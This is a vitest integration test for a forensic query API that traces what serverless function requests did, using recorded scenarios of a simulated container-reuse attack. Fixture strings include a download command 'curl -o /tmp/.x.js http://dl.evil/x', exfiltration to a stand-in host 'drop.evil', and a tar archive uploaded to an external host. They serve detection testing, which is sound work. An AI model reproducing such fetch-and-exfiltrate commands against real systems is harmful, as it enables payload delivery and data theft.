import { readFileSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { contract } from '../../../functions/query/contract.ts';
import { openApi } from '../../../functions/query/openapi.ts';
import { routes } from '../../../functions/query/routes.ts';
import { stitch } from '../../../functions/stitcher/stitch.ts';
import type { Store } from '../../../functions/store/connect.ts';
import { containerReuse, survivingProcess } from '../attacks.ts';
import { hasJava, LocalDynamo, type MemoryObjects } from '../dynamodb-local.ts';
import { Clock, Recorded, START, type Stored } from '../scenario.ts';
import { type Body, Served } from './served.ts';

const SHA = 'ab'.repeat(32);
const since = START;
/** Of a request half a minute after the start: the id of a trace names the second in which it began. */
const TRACE = `1-${Math.trunc(START / 1_000_000 + 30).toString(16)}-0123456789abcdef01234567`;

/** Somebody who was hardly seen: what no index has. */
function quiet() {
  const clock = new Clock();
  clock.now += 30_000_000;
  const one = new Recorded('quiet', clock);
  one.begin('req-quiet', { type: 'http', sourceIp: '198.51.100.77', userAgent: 'x', method: 'GET', path: '/admin/export' });
  Object.assign(one.records.findLast(({ kind }) => kind === 'request-begin')!, { traceId: `Root=${TRACE};Sampled=1` });
  const tar = one.spawn(one.runtime, 70, ['tar', '--exclude=secret-word', '-cf', '/tmp/out-20260301.tar']);
  one.write(tar, '/tmp/out-20260301.tar');
  one.exchange(tar, {
    host: 'a.b.deep.example',
    path: '/upload/part-7',
    request: { bytes: 20, sha256: SHA },
    addr: '192.0.2.9',
  });
  one.end();
  one.begin('req-failed', { type: 'sqs', source: 'orders' });
  one.add(undefined, { kind: 'request-end', status: 'error', errorType: 'TypeError', response: { bytes: 0 } });
  return one;
}

describe.skipIf(!hasJava)('the query API over HTTP', () => {
  let dynamo: LocalDynamo;
  let store: Store;
  let objects: MemoryObjects;
  let api: Served;
  const attack = containerReuse();
  const surviving = survivingProcess();
  const other = quiet();
  const [attacker, file] = ['endpoint:drop.evil', `file:${attack.cards.id}:/tmp/.x.js`];
  const request = (one: Recorded, id: string) => `request:${one.id}:${id}`;

  beforeAll(async () => {
    dynamo = await LocalDynamo.start();
    ({ store, objects } = await dynamo.store());
    await stitchAll([...attack.instances, ...surviving.instances, other].flatMap((one) => one.segments([4, 19])));
    for (let i = 0; i < 3; i++) {
      const key = other.segments()[0]!.key.replace(/\d{12}\.ndjson/, `${String(900 + i).padStart(12, '0')}.ndjson`);
      objects.set(key, Buffer.from('no zstd'), START + 60_000_000);
      await stitch(key, objects, store.writer);
    }
    await store.writer.settle();
    api = await Served.start(store);
  }, 60_000);
  afterAll(async () => {
    vi.restoreAllMocks();
    await api?.stop();
    await dynamo?.stop();
  });

  async function stitchAll(segments: readonly Stored[]): Promise<void> {
    for (const { key, bytes } of segments) {
      objects.set(key, bytes, START + 60_000_000);
      await stitch(key, objects, store.writer);
    }
  }
  const ids = (nodes: readonly Body[]) => nodes.map((one) => one.id ?? one.node);

  it('serves the document that is checked in, which describes every route', async () => {
    const served = await api.document();
    expect(served).toEqual(openApi());
    const checkedIn = readFileSync(new URL('../../../docs/openapi.json', import.meta.url), 'utf8');
    expect(JSON.parse(checkedIn), 'run: node functions/query/openapi-file.ts').toEqual(served);
    expect(served.openapi).toMatch(/^3\.1\./);
    expect(Object.keys(contract).sort()).toEqual(
      routes
        .map(([path]) => path)
        .filter((path) => path !== '/v1/openapi.json')
        .sort(),
    );
    const names = served.paths['/v1/requests/{reqId}/graph']!.get.parameters.map((one) => `${one.in} ${one.name}`);
    expect(names).toEqual(['path reqId', ...['instance', 'limit', 'cursor', 'baseline'].map((name) => `query ${name}`)]);
  });

  describe('lists', () => {
    it('functions by name, page by page', async () => {
      expect((await api.get('/v1/functions')).functions.map((one: Body) => one.function)).toEqual([
        ...['authorize-cc', 'notify', 'purchase', 'quiet', 'ship'],
      ]);
      const pages = await api.pages('/v1/functions', { limit: 2 });
      expect(pages.map((page) => page.functions.length)).toEqual([2, 2, 1]);
    });

    it('instances with the requests that each served in order, each once however small the pages are', async () => {
      const whole = await api.get('/v1/instances', { since });
      const cards = whole.instances.find((one: Body) => one.instanceId === attack.cards.id);
      const served = ['req-benign', 'req-plant', 'req-between', 'req-use', 'req-later'];
      expect(cards.requests.map((one: Body) => one.requestId)).toEqual(served);
      expect(cards).toMatchObject({ function: 'authorize-cc', counts: { requests: 5, segments: 3, missing: 0 }, cut: [] });
      const all = [...attack.instances, ...surviving.instances, other].map(({ id }) => id);
      expect(whole.instances.map((one: Body) => one.instanceId).sort()).toEqual([...all].sort());
      const paged = (await api.pages('/v1/instances', { since, limit: 1 })).flatMap((page) => page.instances);
      expect(paged.map((one) => one.instanceId).sort()).toEqual([...all].sort());
      const some = await api.get('/v1/instances', { since, function: 'ship' });
      expect(some.instances.map((one: Body) => one.instanceId)).toEqual([surviving.fn.id]);
    });

    it('requests by time range, trigger and status', async () => {
      const named = async (query: Record<string, string | number>) =>
        (await api.pages('/v1/requests', { since, ...query })).flatMap((page) =>
          page.requests.map((one: Body) => one.requestId),
        );
      expect(await named({ status: 'error' })).toEqual(['req-failed']);
      expect(await named({ status: 'unknown' })).toEqual([]);
      expect(await named({ trigger: 'sqs' })).toEqual(['req-failed']);
      expect(await named({ trigger: 'http', function: 'authorize-cc', limit: 1 })).toEqual([
        ...['req-later', 'req-between', 'req-plant', 'req-benign'],
      ]);
      const { requests } = await api.get('/v1/requests', { since });
      const at = requests.find((one: Body) => one.requestId === 'req-quiet').at;
      expect(await named({ since: at, until: at })).toEqual(['req-quiet']);
      expect(await named({ until: at - 1, function: 'quiet' })).toEqual([]);
    });

    it('segments set aside, page by page', async () => {
      const pages = await api.pages('/v1/segments/poison', { limit: 2 });
      expect(pages.map((page) => page.segments.length)).toEqual([2, 1]);
      expect(new Set(pages.flatMap((page) => page.segments.map((one: Body) => one.segment))).size).toBe(3);
    });
  });

  describe('search', () => {
    it.each([
      ['198.51.100.0/24', 'request', 'client'],
      ['192.0.2.8/30', 'endpoint', 'exchange'],
      ['*.deep.example', 'endpoint', 'exchange'],
      ['/tmp/out-*.tar', 'file'],
      [SHA, 'exchange'],
    ])('finds %s, which no index has, by looking through the graphs', async (q, ...wanted) => {
      const { results, cut } = await api.get('/v1/search', { q, since });
      expect(results.map((one: Body) => one.kind)).toEqual(expect.arrayContaining(wanted));
      for (const { seen } of results) expect(seen[0].instanceId).toBe(other.id);
      expect(cut).toEqual([]);
    });

    it.each([
      ['process', 'secret-word', 'process'],
      ['host', 'deep.example', 'endpoint'],
      ['url', '/upload/part', 'exchange'],
      ['path', '/tmp', 'file'],
    ])('as %s finds %s', async (as, q, kind) => {
      const { results } = await api.get('/v1/search', { q, as, since, function: 'quiet' });
      expect(results.map((one: Body) => one.kind)).toContain(kind);
    });

    it.each([
      ['an address', '203.0.113.9', request(attack.cards, 'req-plant')],
      ['an address that a host had', '127.66.0.1', `exchange:${attack.cards.id}:req-plant:x2`],
      ['a domain', 'drop.evil', attacker],
      ['a URL', 'https://drop.evil/c?x=1', attacker],
      ['a path', '/tmp/.x.js', file],
      ['a resource', 'ddb:cards', 'resource:ddb:cards'],
      ['a request', 'req-notify', request(attack.notify, 'req-notify')],
      ['an instance', attack.cards.id, `instance:${attack.cards.id}`],
      ['a trace', TRACE, request(other, 'req-quiet')],
    ])('finds %s in the index', async (_, q, node) => {
      const { results } = await api.get('/v1/search', { q, scan: 'never' });
      expect(results.map((one: Body) => one.node)).toContain(node);
    });

    it('finds programs and their arguments, and nothing outside of the time range', async () => {
      const { results } = await api.get('/v1/search', { q: 'curl', as: 'process', since, until: START + 60_000_000 });
      expect(results.map((one: Body) => one.label)).toContain('curl -o /tmp/.x.js http://dl.evil/x (41)');
      const over = Math.max(...results.map(({ last }: Body) => last)) + 1;
      const late = await api.get('/v1/search', { q: 'curl', as: 'process', since: over });
      expect(late.results).toEqual([]);
      expect(late.scanned.since).toBe(over);
    });

    it('goes on where it stopped, by the cursor alone, until all was looked through', async () => {
      const question = { q: 'drop.evil', as: 'host', since, until: START + 60_000_000 };
      const whole = await api.get('/v1/search', question);
      const first = await api.get('/v1/search', { ...question, graphs: 1, limit: 1 });
      const found = new Set<string>(ids(first.results));
      for (let { cursor } = first; cursor !== undefined; ) {
        const page = await api.get('/v1/search', { cursor, graphs: 1, limit: 1 });
        for (const id of ids(page.results)) found.add(id);
        ({ cursor } = page);
      }
      expect([...found]).toEqual(expect.arrayContaining(ids(whole.results)));
      expect(whole.results.map((one: Body) => one.node)).toContain(attacker);
    });

    it('says that only the index was asked', async () => {
      const { results, cut } = await api.get('/v1/search', { q: 'secret-word' });
      expect(results).toEqual([]);
      expect(cut.join()).toContain('scan=always');
    });
  });

  describe('graphs', () => {
    const edgeOf = ({ from, to, op, partition }: Body) => `${from} ${op} ${to} ${partition}`;

    it.each([
      ['of a request', '/v1/requests/req-plant/graph', {}],
      ['of an instance', `/v1/instances/${attack.cards.id}/graph`, {}],
      ['of an instance, in parts', `/v1/instances/${attack.cards.id}/graph`, { requests: 2 }],
      ['of a workflow', '/v1/requests/req-use/workflow', {}],
      ['of a workflow, in parts', '/v1/requests/req-use/workflow', { requests: 1 }],
    ])('%s in pages hold what a whole one holds, each edge once', async (_, path, parts) => {
      const whole = await api.get(path);
      expect({ cut: whole.cut, cursor: whole.cursor }).toEqual({ cut: [], cursor: undefined });
      const pages = await api.pages(path, { ...parts, limit: 4 });
      expect(pages.length).toBeGreaterThan(2);
      for (const page of pages) expect(page.nodes.length).toBeLessThanOrEqual(4);
      expect([...new Set(pages.flatMap((page) => ids(page.nodes)))].sort()).toEqual(ids(whole.nodes).sort());
      const edges = pages.flatMap((page) => page.edges.map(edgeOf));
      expect([...new Set(edges)].sort()).toEqual(whole.edges.map(edgeOf).sort());
      if (Object.keys(parts).length === 0) expect(edges).toHaveLength(whole.edges.length);
      if (path.endsWith('workflow')) {
        const served = pages.flatMap((page) => page.requests.map((one: Body) => one.node));
        expect([...new Set(served)].sort()).toEqual(whole.requests.map((one: Body) => one.node).sort());
      }
    });

    it('refuse a cursor that was given for another question', async () => {
      const path = '/v1/requests/req-use/workflow';
      const { cursor } = await api.get(path, { limit: 2 });
      const { status, body } = await api.ask(path, { limit: 2, cursor, joins: 'all' });
      expect({ status, parameter: body.parameter }).toEqual({ status: 400, parameter: 'joins' });
      expect(await api.ask(path, { cursor: 'AAAA' })).toMatchObject({ status: 400, body: { parameter: 'cursor' } });
    });
  });

  describe('walks', () => {
    it('a trace in pages holds what a whole one holds', async () => {
      const question = { node: attacker, direction: 'backward' } as const;
      const whole = await api.get('/v1/trace', question);
      expect(whole.cut).toEqual([]);
      const first = await api.get('/v1/trace', { ...question, limit: 5 });
      expect(first.nodes).toHaveLength(5);
      expect(first.frontier.length).toBeGreaterThan(0);
      const [nodes, edges] = [new Set<string>(ids(first.nodes)), new Set<string>()];
      const note = (page: Body) => {
        for (const { from, to, op } of page.edges) edges.add(`${from} ${op} ${to}`);
      };
      note(first);
      let pages = 1;
      for (let { cursor } = first; cursor !== undefined; pages++) {
        const page = await api.get('/v1/trace', { cursor, limit: 5 });
        for (const id of ids(page.nodes)) nodes.add(id);
        note(page);
        ({ cursor } = page);
        expect(pages).toBeLessThan(500);
      }
      expect([...nodes].sort()).toEqual(ids(whole.nodes).sort());
      expect(edges).toEqual(new Set(whole.edges.map((one: Body) => `${one.from} ${one.op} ${one.to}`)));
    });

    it('stop at kinds, and leave out what is the same for every request', async () => {
      const question = { node: attacker, direction: 'backward' } as const;
      const stopped = await api.get('/v1/trace', { ...question, stop: 'process' });
      const kinds = new Set(stopped.nodes.map((one: Body) => one.kind));
      expect(kinds).toEqual(new Set(['endpoint', 'exchange', 'process']));
      const lean = await api.get('/v1/trace', { ...question, collapse: 'baselines' });
      expect(lean.baselines).toBeGreaterThan(0);
      expect(lean.nodes.map((one: Body) => one.kind)).not.toContain('image-tree');
      const { hubs, nodes } = await api.get('/v1/trace', { ...question, collapse: 'hubs', hub: 4 });
      expect(hubs.length).toBeGreaterThan(0);
      expect(ids(nodes)).toEqual(expect.arrayContaining(hubs.map((one: Body) => one.node)));
    });

    it('end when their time is over, and whatever that was, going on gives all of it', async () => {
      const question = { node: attacker, direction: 'backward' } as const;
      const whole = await api.get('/v1/trace', question);
      const nodes = new Set<string>();
      let page = await api.get('/v1/trace', { ...question, milliseconds: 1 });
      for (let pages = 0; ; pages++) {
        for (const id of ids(page.nodes)) nodes.add(id);
        expect(page.cursor === undefined).toBe(page.frontier.length === 0);
        if (page.cursor === undefined) break;
        expect(new Set(page.frontier.map((one: Body) => one.why))).toEqual(new Set(['time']));
        expect(pages).toBeLessThan(200);
        page = await api.get('/v1/trace', { cursor: page.cursor, milliseconds: 20_000 });
      }
      expect([...nodes].sort()).toEqual(ids(whole.nodes).sort());
    });

    it('leave out paths that are longer than asked for, and say so', async () => {
      const ends = { from: request(attack.cards, 'req-plant'), to: attacker };
      const { paths } = await api.get('/v1/paths', ends);
      const longest = paths[0].length;
      const brief = await api.get('/v1/paths', { ...ends, longest });
      expect(brief.paths.map((one: Body) => one.length)).toEqual(
        paths.map((one: Body) => one.length).filter((n: number) => n <= longest),
      );
      const none = await api.get('/v1/paths', { ...ends, longest: longest - 1 });
      expect(none.paths).toEqual([]);
      expect(none.cut.join()).toContain('longer');
    });

    it('name where the time was over and go on from there', async () => {
      const spent = await api.get('/v1/trace', { node: attacker, direction: 'backward', partitions: 1 });
      expect(spent.frontier.map((one: Body) => one.why)).toContain('partitions');
      const more = await api.get('/v1/trace', { cursor: spent.cursor, partitions: 400 });
      expect(ids(more.nodes)).toContain(request(attack.cards, 'req-plant'));
    });

    const client = 'client:203.0.113.9:curl/8';

    it('forward from a client tell every request that it made and all that these caused, in pages, too', async () => {
      const question = { node: client, direction: 'forward' } as const;
      const whole = await api.get('/v1/trace', question);
      expect(whole.cut).toEqual([]);
      const made = whole.edges.filter(({ from }: Body) => from === client).map(({ to }: Body) => to);
      const { requests } = await api.get('/v1/requests', { since, trigger: 'http' });
      const own = requests.filter((one: Body) => one.function !== 'quiet');
      expect(made.sort()).toEqual(own.map((one: Body) => `request:${one.instanceId}:${one.requestId}`).sort());
      const caused = new Set<string>([client]);
      for (const node of made) for (const id of ids((await api.get('/v1/trace', { ...question, node })).nodes)) caused.add(id);
      expect(ids(whole.nodes).sort()).toEqual([...caused].sort());
      expect([...caused]).toEqual(expect.arrayContaining([request(attack.notify, 'req-notify'), attacker]));
      const nodes = new Set<string>();
      let page = await api.get('/v1/trace', { ...question, limit: 20 });
      for (let pages = 0; ; pages++) {
        for (const id of ids(page.nodes)) nodes.add(id);
        if (page.cursor === undefined) break;
        expect(pages).toBeLessThan(200);
        page = await api.get('/v1/trace', { cursor: page.cursor, limit: 20 });
      }
      expect([...nodes].sort()).toEqual(ids(whole.nodes).sort());
    });

    it('what a client reached, whatever program it said it was, from a time on', async () => {
      const reached = await api.get('/v1/blast', { node: client });
      expect(reached.requests).toEqual(expect.arrayContaining(['req-plant', 'req-buy', 'req-use', 'req-notify', 'req-a']));
      expect(reached.groups.find((one: Body) => one.kind === 'endpoint').nodes.map((one: Body) => one.node)).toContain(
        attacker,
      );
      const all = await api.get('/v1/blast', { node: 'client:203.0.113.9' });
      expect(all.requests).toEqual(reached.requests);
      const { requests } = await api.get('/v1/requests', { since, function: 'authorize-cc', trigger: 'http' });
      const [last] = requests;
      expect((await api.get('/v1/blast', { node: client, at: last.at })).requests).toEqual([last.requestId]);
      const nobody = await api.ask('/v1/blast', { node: 'client:203.0.113.9:wget' });
      expect(nobody).toMatchObject({ status: 404, body: { parameter: 'node' } });
    });

    it.each([
      ['/v1/trace', { node: client, direction: 'backward' }, 'node', '/v1/blast'],
      ['/v1/path', { node: client }, 'node', '/v1/blast'],
      ['/v1/questions/explanation', { node: client }, 'node', '/v1/blast'],
      ['/v1/paths', { from: client, to: attacker }, 'from', '/v1/blast'],
      ['/v1/paths', { from: request(attack.cards, 'req-plant'), to: client }, 'to', '/v1/blast'],
      ['/v1/causes', { a: attacker, b: client }, 'b', '/v1/blast'],
      ['/v1/path', { node: 'function:quiet' }, 'node', '/v1/requests'],
      ['/v1/blast', { node: `instance:${other.id}` }, 'node', '/v1/instances/'],
    ])('%s of what nothing leads to is refused, naming what to ask: %o', async (path, query, parameter, instead) => {
      const { status, body } = await api.ask(path, query);
      expect({ status, parameter: body.parameter }).toEqual({ status: 400, parameter });
      expect(body.detail).toContain(instead);
    });

    it('paths between two nodes, shortest first, each node once, in order of time', async () => {
      const asked = { from: request(attack.cards, 'req-plant'), to: attacker };
      const { paths, cut } = await api.get('/v1/paths', asked);
      expect(cut).toEqual([]);
      const lengths = paths.map((one: Body) => one.length);
      expect(lengths).toEqual([...lengths].sort((a, b) => a - b));
      expect(ids(paths[0].nodes)).toContain(file);
      for (const { nodes, edges } of paths) {
        expect(new Set(ids(nodes)).size).toBe(nodes.length);
        expect(edges.map((one: Body) => one.from)).toEqual(ids(nodes).slice(0, -1));
        expect(edges.map((one: Body) => one.to)).toEqual(ids(nodes).slice(1));
      }
      const pages = await api.pages('/v1/paths', { ...asked, paths: 1 });
      expect(pages.flatMap((page) => page.paths)).toEqual(paths);
      // Nothing flows back in time.
      expect((await api.get('/v1/paths', { from: attacker, to: request(attack.cards, 'req-benign') })).paths).toEqual([]);
    });

    it('common causes of two nodes, where their ways part first', async () => {
      const [a, b] = [request(attack.notify, 'req-notify'), `exchange:${attack.cards.id}:req-use:x5`];
      const { causes } = await api.get('/v1/causes', { a, b });
      const use = causes.find((one: Body) => one.node === `process:${attack.cards.id}:req-use:${attack.cards.runtime}`);
      expect(use).toMatchObject({ nearest: true });
      const plant = causes.find((one: Body) => one.node === request(attack.cards, 'req-plant'));
      expect(plant).toMatchObject({ nearest: false });
    });

    it('blast radius: all that was reached, by kind', async () => {
      const { groups, functions, requests, cut } = await api.get('/v1/blast', { node: request(attack.cards, 'req-plant') });
      const endpoints = groups.find((one: Body) => one.kind === 'endpoint');
      expect(ids(endpoints.nodes)).toContain(attacker);
      expect(functions).toEqual(expect.arrayContaining(['authorize-cc', 'notify', 'purchase']));
      expect(requests).toEqual(expect.arrayContaining(['req-use', 'req-notify']));
      expect(requests).not.toContain('req-between');
      expect(cut).toEqual([]);
    });
  });

  describe('evidence', () => {
    it('is the record itself, with the digest of its segment as it was stitched', async () => {
      const { steps } = await api.get('/v1/path', { node: attacker });
      const named = steps.flatMap((one: Body) => one.evidence);
      expect(named.length).toBeGreaterThan(3);
      const all = [...attack.instances, ...surviving.instances].flatMap(({ records, id }) =>
        records.map((record) => ({ id, record })),
      );
      for (const { segment, seq } of named) {
        const { verified, record, header } = await api.get('/v1/evidence', { segment, seq });
        expect(verified).toBe(true);
        expect(all.find((one) => one.id === header.instanceId && one.record.seq === seq)?.record).toEqual(record);
      }
    });

    it('that was altered, or taken away, is told', async () => {
      const [own] = attack.purchase.segments([4, 19]);
      const forger = new Recorded('purchase', new Clock(), attack.purchase.id);
      while (forger.records.length < own!.segment.records.length) forger.read(forger.runtime, '/var/task/harmless.js');
      const forged = forger.segments([own!.segment.header.last])[0]!;
      expect(forged.key).toBe(own!.key);
      objects.set(own!.key, forged.bytes, START);
      expect(await api.get('/v1/evidence', { segment: own!.key, seq: 2 })).toMatchObject({ verified: false });
      objects.set(own!.key, Buffer.from('nothing'), START);
      const damaged = await api.ask('/v1/evidence', { segment: own!.key, seq: 2 });
      expect(damaged).toMatchObject({ status: 409, body: { parameter: 'segment' } });
      expect(damaged.body.detail).toContain('it was altered');
      objects.set(own!.key, own!.bytes, START);
      expect(await api.get('/v1/evidence', { segment: own!.key, seq: 2 })).toMatchObject({ verified: true });
      const gone = own!.key.replace(/\/\d{12}-\d{12}/, '/000000000100-000000000200');
      expect(await api.ask('/v1/evidence', { segment: gone, seq: 150 })).toMatchObject({ status: 404 });
      expect(await api.ask('/v1/evidence', { segment: own!.key, seq: 5 })).toMatchObject({
        status: 404,
        body: { parameter: 'seq' },
      });
      expect(await api.ask('/v1/evidence', { segment: 'spill/x', seq: 5 })).toMatchObject({
        status: 400,
        body: { parameter: 'segment' },
      });
    });
  });

  describe('reuse of an instance', () => {
    it('through a file that one request left and another loaded, and then through memory', async () => {
      const { influences, cut } = await api.get(`/v1/instances/${attack.cards.id}/reuse`);
      expect(cut).toEqual([]);
      const brief = influences.map(({ from, to, way, sure, node }: Body) => ({ from, to, way, sure, node }));
      expect(brief).toEqual([
        { from: 'req-plant', to: 'req-use', way: 'loaded', sure: 'exact', node: file },
        { from: 'req-plant', to: 'req-later', way: 'memory', sure: 'inferred', node: file },
      ]);
      expect(influences[0].evidence.length).toBeGreaterThan(1);
    });

    it('through a process that one request left running', async () => {
      const { influences } = await api.get(`/v1/instances/${surviving.fn.id}/reuse`);
      expect(influences).toMatchObject([{ from: 'req-a', to: 'req-c', through: 'process', way: 'survived', sure: 'exact' }]);
    });

    it('not at all where requests only shared the container', async () => {
      expect((await api.get(`/v1/instances/${attack.purchase.id}/reuse`)).influences).toEqual([]);
    });
  });

  describe('the three questions', () => {
    it('RQ1: in what a request deviates, against a sample that is told', async () => {
      const odd = await api.get('/v1/questions/deviation', { request: 'req-plant' });
      expect(odd).toMatchObject({ deviates: true, function: 'authorize-cc', sample: { requests: 4, instances: 1 } });
      expect(odd.traits.map(({ trait, what }: Body) => `${trait} ${what}`).sort()).toEqual([
        ...['file write /tmp/.x.js', 'host dl.evil', 'program /usr/bin/curl', 'program /usr/bin/sh'],
      ]);
      expect(odd.measures.map((one: Body) => one.measure)).toContain('children');
      const usual = await api.get('/v1/questions/deviation', { request: 'req-between' });
      expect(usual).toMatchObject({ deviates: false, traits: [], measures: [], cut: [] });
      const alone = await api.get('/v1/questions/deviation', { request: 'req-notify' });
      expect(alone.deviates).toBeNull();
      expect(alone.cut.join()).toContain('nothing can be said');
    });

    it('RQ2: what happened, with the boundaries that were crossed and what left', async () => {
      const told = await api.get('/v1/questions/explanation', { node: attacker });
      expect(told.explanation).toHaveLength(told.steps.length);
      expect(told.entries.map((one: Body) => one.requestId).sort()).toEqual(['req-buy', 'req-plant']);
      expect(told.left.map((one: Body) => one.bytes).sort()).toEqual([400, 4000]);
      const crossed = told.boundaries.map(({ kind, requests }: Body) => [kind, ...requests]);
      expect(crossed).toContainEqual(['request', 'req-plant', 'req-use']);
      expect(crossed).toContainEqual(['function', 'req-buy', 'req-use']);
    });

    it('RQ3: whether a container was reused for it, and through what', async () => {
      const yes = await api.get('/v1/questions/reuse', { node: attacker });
      expect(yes).toMatchObject({
        reused: true,
        complete: true,
        how: [{ what: 'file', node: file, from: 'req-plant', to: 'req-use' }],
      });
      const no = await api.get('/v1/questions/reuse', { request: 'req-benign' });
      expect(no).toMatchObject({ reused: false, complete: true, how: [] });
    });
  });

  it.each([
    ['/v1/trace', { cursor: 'AAAA' }, 'cursor'],
    ['/v1/trace', { cursor: 'x'.repeat(7000) }, 'cursor'],
    ['/v1/trace', { node: 'endpoint:drop.evil' }, 'direction'],
    ['/v1/trace', { node: 'endpoint:drop.evil', direction: 'backward', stop: 'everything' }, 'stop'],
    ['/v1/blast', {}, 'node'],
    ['/v1/paths', { from: 'endpoint:drop.evil' }, 'to'],
    ['/v1/causes', { a: 'endpoint:drop.evil', b: 'x' }, 'b'],
    ['/v1/search', {}, 'q'],
    ['/v1/search', { q: '10.0.0.0/40', as: 'address' }, 'q'],
    ['/v1/instances', { cursor: 'AAAA' }, 'cursor'],
    ['/v1/questions/reuse', {}, 'node'],
    ['/v1/questions/deviation', {}, 'request'],
    ['/v1/openapi.json', { pretty: '1' }, 'pretty'],
  ])('%s %j is a problem that names the parameter', async (path, query, parameter) => {
    const { status, body } = await api.ask(path, query as unknown as Record<string, string>);
    expect({ status, parameter: body.parameter }).toEqual({ status: 400, parameter });
  });

  it('refuses a cursor given for another question', async () => {
    const { cursor } = await api.get('/v1/trace', { node: attacker, direction: 'backward', limit: 3 });
    const { status, body } = await api.ask('/v1/trace', { cursor, node: file });
    expect({ status, parameter: body.parameter }).toEqual({ status: 400, parameter: 'node' });
  });

  it('answered every path of the document as the document says', async () => {
    await api.get('/v1/stats');
    await api.get('/v1/requests/req-plant/graph');
    await api.get('/v1/requests/req-plant/workflow');
    await api.get(`/v1/instances/${attack.cards.id}`);
    await api.get(`/v1/instances/${attack.cards.id}/graph`);
    await api.get(`/v1/instances/${attack.cards.id}/deviations`);
    await api.get('/v1/baseline', { function: 'authorize-cc' });
    for (const path of ['/v1/inventory', '/v1/changes', '/v1/gaps']) await api.get(path);
    expect([...api.asked].sort()).toEqual(Object.keys((await api.document()).paths).sort());
  });
});
